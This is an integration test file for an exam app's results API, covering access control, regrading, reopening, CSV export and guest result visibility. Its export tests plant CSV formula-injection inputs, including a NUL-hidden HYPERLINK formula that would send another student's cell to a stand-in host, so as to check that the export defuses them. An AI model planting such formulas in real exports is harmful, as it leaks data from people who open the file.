// The results routes against a real PocketBase (see docs/architecture.md, "HTTP routes"): who may call them
// (a member, a non-member, a guest, anonymous), results with students in progress and submitted, accept
// regrading two rooms that share an exam, reopen, the CSV export, forget, and what a guest sees of their
// result under each setting (keys only under review, after submitting).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { guestSearch, importScoringRoom, makeGuest, questionIds, saveDraft, submit } from '../support/app';
import { startTestPocketBase, type TestPocketBase } from '../support/pocketbase';

/** The guest's view of their submission with its result (the contract's `result`). */
interface SeenSubmission {
  result: null | {
    score: number;
    total: number;
    exams: { id: string; name: string; score: number; total: number; band: number | null }[];
    review?: { examId: string; num: number; answer: string; keys: string[]; correct: boolean }[];
  };
}
const resultSeen = async (slug: string, guest: Awaited<ReturnType<typeof makeGuest>>) =>
  ((await guestSearch(pb, slug, guest)).body.submission as unknown as SeenSubmission).result;

let pb: TestPocketBase;
let member: { id: string; token: string };
let stranger: { id: string; token: string };
const MEMBER = 'results-member@answersheet.test';

beforeAll(async () => {
  pb = await startTestPocketBase();
  member = await pb.createUser(MEMBER);
  stranger = await pb.createUser('results-stranger@answersheet.test');
});
afterAll(async () => {
  await pb?.stop();
});

const get = (path: string, token?: string, headers?: Record<string, string>) =>
  pb.request(path, { token, headers });
const post = (path: string, body: unknown, token?: string, headers?: Record<string, string>) =>
  pb.request(path, { method: 'POST', body, token, headers });

async function renameGuest(uuid: string, name: string, email: string) {
  const res = await pb.request('/api/exam/guest', { method: 'PATCH', body: { uuid, name, email } });
  expect(res.status).toBe(200);
}

/** A room of the member; answers by question id; guests who submit or keep a draft. */
async function roomWithStudents(slug: string) {
  const room = importScoringRoom(pb, slug, [MEMBER]);
  const ids = await questionIds(pb, slug);
  const roomId = (await guestSearch(pb, slug)).body.room.id;
  return { room, ids, roomId };
}

describe('access to the results routes', () => {
  it('answers a member, 404 to a non-member (nothing leaked), 401 to a guest and to anonymous', async () => {
    const { roomId, ids } = await roomWithStudents('results-access');
    const guest = await makeGuest(pb);
    const sent = await submit(pb, guest, {
      Room: roomId,
      raw: { answers: [{ questionId: ids[0], value: 'colour' }] },
    });
    expect(sent.status).toBe(200);
    const sub = sent.body.id as string;
    const base = `/api/room/results/${roomId}`;
    const routes: [string, string, unknown?][] = [
      ['GET', base],
      ['GET', `${base}/submission/${sub}`],
      ['GET', `${base}/questions`],
      ['GET', `${base}/export`],
      ['POST', `${base}/accept`, { questionId: ids[1], answer: 'tres' }],
      ['POST', `${base}/reopen`, { submission: 'nope' }],
      ['POST', `${base}/forget`, { guest: 'nope' }],
    ];
    for (const [method, path, body] of routes) {
      const asStranger = await pb.request(path, { method, body, token: stranger.token });
      expect(asStranger.status, `${method} ${path}`).toBe(404);
      expect(JSON.stringify(asStranger.body)).not.toMatch(/colour|Student |student@school|Scoring/);
      const asGuest = await pb.request(path, { method, body, headers: guest.headers });
      expect(asGuest.status, `${method} ${path}`).toBe(401);
      expect((await pb.request(path, { method, body })).status).toBe(401);
    }
    const unknown = await get('/api/room/results/nosuchroom12345', member.token);
    expect(unknown.status).toBe(404);
    expect(unknown.body).toEqual(expect.objectContaining({ status: 404 }));
    // A member reads; nothing has changed for the stranger's attempts.
    const mine = await get(base, member.token);
    expect(mine.status).toBe(200);
    expect(mine.body.students).toHaveLength(1);
    expect((await get(base, pb.superuserToken)).status).toBe(200);
  });
});

describe('GET results and a submission review', () => {
  it('lists students in progress and submitted with per-exam scores, the snapshot name, and the review', async () => {
    const { roomId, ids } = await roomWithStudents('results-list');
    const writer = await makeGuest(pb);
    await renameGuest(writer.uuid, 'Zoë Writer', 'zoe@school.test');
    expect(
      (
        await saveDraft(pb, writer, {
          Room: roomId,
          raw: {
            answers: [
              { questionId: ids[0], value: 'x' },
              { questionId: ids[1], value: ' ' },
            ],
          },
        })
      ).status,
    ).toBe(200);
    const done = await makeGuest(pb);
    await renameGuest(done.uuid, 'Lê Văn, An', 'an@school.test');
    await saveDraft(pb, done, { Room: roomId, raw: { answers: [] } });
    const answers = [
      { questionId: ids[0], value: 'Color' },
      { questionId: ids[7], value: 'true' },
    ];
    const sent = await submit(pb, done, { Room: roomId, raw: { answers } });
    expect(sent.status).toBe(200);
    // Renaming after submitting changes nothing the teacher sees for the submission.
    await renameGuest(done.uuid, 'Someone Else', 'else@school.test');

    const res = await get(`/api/room/results/${roomId}`, member.token);
    expect(res.status).toBe(200);
    expect(res.body.room).toEqual({
      id: roomId,
      name: 'Scoring results-list',
      slug: 'results-list',
      time_zone: '',
    });
    expect(
      res.body.exams.map((x: { name: string; kind: string; total: number }) => [x.name, x.kind, x.total]),
    ).toEqual([
      ['Listening', 'other', 7],
      ['Reading', 'other', 2],
    ]);
    const [listening, reading] = res.body.exams.map((x: { id: string }) => x.id);
    const byStatus = Object.fromEntries(res.body.students.map((s: { status: string }) => [s.status, s]));
    expect(byStatus.in_progress).toMatchObject({
      guest: { id: writer.id, name: 'Zoë Writer', email: 'zoe@school.test' },
      answered: 1,
      total: 9,
      submission: null,
    });
    expect(byStatus.submitted).toMatchObject({
      guest: { id: done.id, name: 'Lê Văn, An', email: 'an@school.test' },
      status: 'submitted',
      total: 9,
      submission: {
        id: sent.body.id,
        score: 2,
        total: 9,
        exams: {
          [listening]: { score: 1, total: 7, band: null },
          [reading]: { score: 1, total: 2, band: null },
        },
      },
    });
    expect(byStatus.submitted.submission.started).toBeTruthy();
    expect(byStatus.submitted.started).toBeTruthy();

    const review = await get(`/api/room/results/${roomId}/submission/${sent.body.id}`, member.token);
    expect(review.status).toBe(200);
    expect(review.body.guest.name).toBe('Lê Văn, An');
    expect(review.body.review).toHaveLength(9);
    expect(review.body.review[0]).toEqual({
      examId: listening,
      num: 1,
      questionId: ids[0],
      answer: 'Color',
      keys: ['colour', 'color'],
      correct: true,
    });
    const other = await roomWithStudents('results-list-other');
    expect(
      (await get(`/api/room/results/${other.roomId}/submission/${sent.body.id}`, member.token)).status,
    ).toBe(404);
  });
});

describe('questions, accept and regrade', () => {
  it('analyses answers and accepting one regrades every room that holds the question', async () => {
    const a = await roomWithStudents('results-accept-a');
    const b = await roomWithStudents('results-accept-b');
    // Room b takes room a's exams too (superuser, records API): both sheets hold a's questions.
    const aExams = (
      await pb.request(`/api/collections/rooms/records/${a.roomId}`, { token: pb.superuserToken })
    ).body.Exams;
    const bRoom = await pb.request(`/api/collections/rooms/records/${b.roomId}`, {
      method: 'PATCH',
      token: pb.superuserToken,
      body: { Exams: aExams },
    });
    expect(bRoom.status).toBe(200);
    const q2 = a.ids[1]!;
    for (const [roomId, value] of [
      [a.roomId, 'tres'],
      [a.roomId, ' TRES '],
      [a.roomId, 'three'],
      [b.roomId, 'tres'],
    ] as const) {
      const guest = await makeGuest(pb);
      expect(
        (await submit(pb, guest, { Room: roomId, raw: { answers: [{ questionId: q2, value }] } })).status,
      ).toBe(200);
    }
    const items = await get(`/api/room/results/${a.roomId}/questions`, member.token);
    expect(items.status).toBe(200);
    const item = items.body.find((i: { questionId: string }) => i.questionId === q2);
    expect(item).toMatchObject({ num: 2, keys: ['3', 'three'], submitted: 3, correct: 1, blank: 0 });
    expect(item.answers).toEqual([
      { answer: 'tres', count: 2, correct: false },
      { answer: 'three', count: 1, correct: true },
    ]);
    expect(items.body.find((i: { num: number }) => i.num === 1).blank).toBe(3);

    const blank = await post(
      `/api/room/results/${a.roomId}/accept`,
      { questionId: q2, answer: '  ' },
      member.token,
    );
    expect(blank.status).toBe(400);
    expect(blank.body.data.answer).toBeTruthy();
    const known = await post(
      `/api/room/results/${a.roomId}/accept`,
      { questionId: q2, answer: 'THREE' },
      member.token,
    );
    expect(known.status).toBe(400);
    expect(known.body.data.answer.code).toBe('already_accepted');

    const accepted = await post(
      `/api/room/results/${a.roomId}/accept`,
      { questionId: q2, answer: 'tres' },
      member.token,
    );
    expect(accepted.status).toBe(200);
    expect(accepted.body).toEqual({ regraded: 4, changed: 3 });
    for (const roomId of [a.roomId, b.roomId]) {
      const res = await get(`/api/room/results/${roomId}`, member.token);
      for (const s of res.body.students) expect(s.submission.score).toBe(1);
    }
    const again = await get(`/api/room/results/${a.roomId}/questions`, member.token);
    expect(again.body.find((i: { questionId: string }) => i.questionId === q2)).toMatchObject({ correct: 3 });
  });
});

describe('reopen, export and forget', () => {
  it('reopens a submission as a draft the student can go on with', async () => {
    const { roomId, ids } = await roomWithStudents('results-reopen');
    const guest = await makeGuest(pb);
    const sent = await submit(pb, guest, {
      Room: roomId,
      raw: { answers: [{ questionId: ids[0], value: 'colour' }], flags: [ids[1]] },
    });
    const missing = await post(`/api/room/results/${roomId}/reopen`, {}, member.token);
    expect(missing.status).toBe(400);
    expect(missing.body.data.submission.code).toBe('validation_required');
    const res = await post(`/api/room/results/${roomId}/reopen`, { submission: sent.body.id }, member.token);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ reopened: true });
    const seen = await guestSearch(pb, 'results-reopen', guest);
    expect(seen.body.submission).toBeNull();
    expect(seen.body.pendingSubmission!.answers).toEqual([{ questionId: ids[0], value: 'colour' }]);
    expect(seen.body.pendingSubmission!.flags).toEqual([ids[1]]);
    expect((await saveDraft(pb, guest, { Room: roomId, raw: { answers: [] } })).status).toBe(200);
    expect(
      (await post(`/api/room/results/${roomId}/reopen`, { submission: sent.body.id }, member.token)).status,
    ).toBe(404);
  });

  it('exports CSV with a BOM, CRLF, quoted names and defused formulas', async () => {
    const { roomId, ids } = await roomWithStudents('results-export');
    const guest = await makeGuest(pb);
    await renameGuest(guest.uuid, 'Lê Văn, An', 'an@school.test');
    await submit(pb, guest, { Room: roomId, raw: { answers: [{ questionId: ids[0], value: '=1+1' }] } });
    const res = await fetch(`${pb.url}/api/room/results/${roomId}/export`, {
      headers: { Authorization: member.token },
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="results-export-results.csv"');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect(Array.from(bytes.slice(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes.slice(3));
    const lines = text.split('\r\n');
    expect(lines[0]).toMatch(
      /^Name,E-mail,Status,Submitted \(UTC\),Score,Total,Listening score,Listening band,/,
    );
    // The exams' scores and bands, the five band columns (empty: no bands), then the answers.
    expect(lines[1]).toMatch(/^"Lê Văn, An",an@school\.test,submitted,[^,]+,0,9,0,,0,,,,,,,'=1\+1,/);
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
  });

  it('exports a formula hidden behind a control character, or full-width, as text', async () => {
    const { roomId, ids } = await roomWithStudents('results-export-formula');
    const victim = await makeGuest(pb);
    await renameGuest(victim.uuid, 'Victim', 'victim@school.test');
    await submit(pb, victim, { Room: roomId, raw: { answers: [] } });
    // LibreOffice's default import skips the NUL and reads a live formula pointing at the row above.
    const attacker = await makeGuest(pb);
    await renameGuest(attacker.uuid, '\u0000=HYPERLINK("http://x.test/?"&B2,"Open")', 'x@school.test');
    await submit(pb, attacker, {
      Room: roomId,
      raw: { answers: [{ questionId: ids[0], value: '＠SUM(1)' }] },
    });
    const res = await fetch(`${pb.url}/api/room/results/${roomId}/export`, {
      headers: { Authorization: member.token },
    });
    expect(res.status).toBe(200);
    const lines = (await res.text()).replace(/^\ufeff/, '').split('\r\n');
    const row = lines.find((line) => line.includes('HYPERLINK'))!;
    expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/x\.test\/\?""&B2,""Open""\)",x@school\.test,submitted,/);
    expect(row).toContain(",'＠SUM(1),");
    expect(lines.join('\n')).not.toContain('\u0000');
  });

  it('forgets one student: their draft and submission here, and the guest when nothing else is left', async () => {
    const { roomId, ids } = await roomWithStudents('results-forget');
    const other = await roomWithStudents('results-forget-other');
    const leaving = await makeGuest(pb);
    await submit(pb, leaving, { Room: roomId, raw: { answers: [{ questionId: ids[0], value: 'x' }] } });
    const staying = await makeGuest(pb);
    await saveDraft(pb, staying, { Room: roomId, raw: { answers: [] } });
    await saveDraft(pb, staying, { Room: other.roomId, raw: { answers: [] } });

    expect(
      (await post(`/api/room/results/${other.roomId}/forget`, { guest: leaving.id }, member.token)).status,
    ).toBe(404);
    const gone = await post(`/api/room/results/${roomId}/forget`, { guest: leaving.id }, member.token);
    expect(gone.body).toEqual({ removed: true });
    expect(
      (await pb.request(`/api/collections/guests/records/${leaving.id}`, { token: pb.superuserToken }))
        .status,
    ).toBe(404);
    // Their uuid, known to the server from their submission, names no guest now: a room load and a draft
    // answer 401, as for a stranger.
    expect((await guestSearch(pb, 'results-forget', leaving)).status).toBe(401);
    expect((await saveDraft(pb, leaving, { Room: roomId, raw: { answers: [] } })).status).toBe(401);
    expect(
      (await post(`/api/room/results/${roomId}/forget`, { guest: staying.id }, member.token)).status,
    ).toBe(200);
    expect(
      (await pb.request(`/api/collections/guests/records/${staying.id}`, { token: pb.superuserToken }))
        .status,
    ).toBe(200);
    const left = await get(`/api/room/results/${roomId}`, member.token);
    expect(left.body.students).toEqual([]);
    expect((await get(`/api/room/results/${other.roomId}`, member.token)).body.students).toHaveLength(1);
  });
});

describe('what a guest sees of their result', () => {
  it('follows the room setting; keys only under review, after submitting', async () => {
    const { roomId, ids } = await roomWithStudents('results-guest');
    const guest = await makeGuest(pb);
    // Before submitting, with review on: no key in the guest's answers.
    const setting = (results: string) =>
      pb.request(`/api/room/patch/${roomId}`, { method: 'PATCH', body: { results }, token: member.token });
    expect((await setting('review')).status).toBe(200);
    const draftSeen = await guestSearch(pb, 'results-guest', guest);
    expect(JSON.stringify(draftSeen.body)).not.toMatch(/colour|library|Tuesday|NOT GIVEN/);
    expect((await setting('hidden')).status).toBe(200);

    const sent = await submit(pb, guest, {
      Room: roomId,
      raw: { answers: [{ questionId: ids[0], value: 'colour' }] },
    });
    expect(sent.status).toBe(200);
    expect(sent.body.result).toBeNull();
    expect(JSON.stringify(sent.body)).not.toMatch(/library|Tuesday/);
    expect(await resultSeen('results-guest', guest)).toBeNull();

    expect((await setting('score')).status).toBe(200);
    // The setting as it is now, also in the answer to a submission (the sheet cache follows the room).
    const second = await submit(pb, await makeGuest(pb), {
      Room: roomId,
      raw: { answers: [{ questionId: ids[0], value: 'colour' }] },
    });
    expect(second.body.result).toMatchObject({ score: 1, total: 9 });
    expect(JSON.stringify(second.body)).not.toMatch(/library|Tuesday/);
    const scored = (await guestSearch(pb, 'results-guest', guest)).body;
    expect(await resultSeen('results-guest', guest)).toEqual({
      score: 1,
      total: 9,
      exams: [
        expect.objectContaining({ name: 'Listening', score: 1, total: 7, band: null }),
        expect.objectContaining({ name: 'Reading', score: 0, total: 2, band: null }),
      ],
      // A band per skill and the overall, as IELTS gives them: none here (the tests are not out of 40).
      bands: { listening: null, reading: null, writing: null, speaking: null, overall: null },
      // The student's own progress page (docs/product.md, "Students across mocks").
      progress: expect.stringMatching(/^[A-Za-z0-9_-]{22}$/),
    });
    expect(JSON.stringify(scored)).not.toMatch(/library|Tuesday|NOT GIVEN/);

    expect((await setting('review')).status).toBe(200);
    // An open room keeps the keys back while anyone may still be writing, unless it reviews at once
    // (docs/architecture.md, "Exam day").
    expect(await resultSeen('results-guest', guest)).toMatchObject({ score: 1, review_later: true });
    const atOnce = await pb.request(`/api/room/patch/${roomId}`, {
      method: 'PATCH',
      body: { review_at_once: true },
      token: member.token,
    });
    expect(atOnce.status).toBe(200);
    const reviewed = await resultSeen('results-guest', guest);
    expect(reviewed!.review).toHaveLength(9);
    expect(reviewed!.review![2]).toMatchObject({
      num: 3,
      answer: '',
      keys: ['(the) library'],
      correct: false,
    });
    // Another guest of the room, not submitted, still sees no key.
    const other = await makeGuest(pb);
    expect(JSON.stringify((await guestSearch(pb, 'results-guest', other)).body)).not.toMatch(
      /library|Tuesday/,
    );

    const bad = await setting('everything');
    expect(bad.status).toBe(400);
    expect(bad.body.data.results).toBeTruthy();
    const listed = await pb.request('/api/room/list', { token: member.token });
    expect(listed.body.items.find((r: { id: string }) => r.id === roomId).results).toBe('review');
  });
});
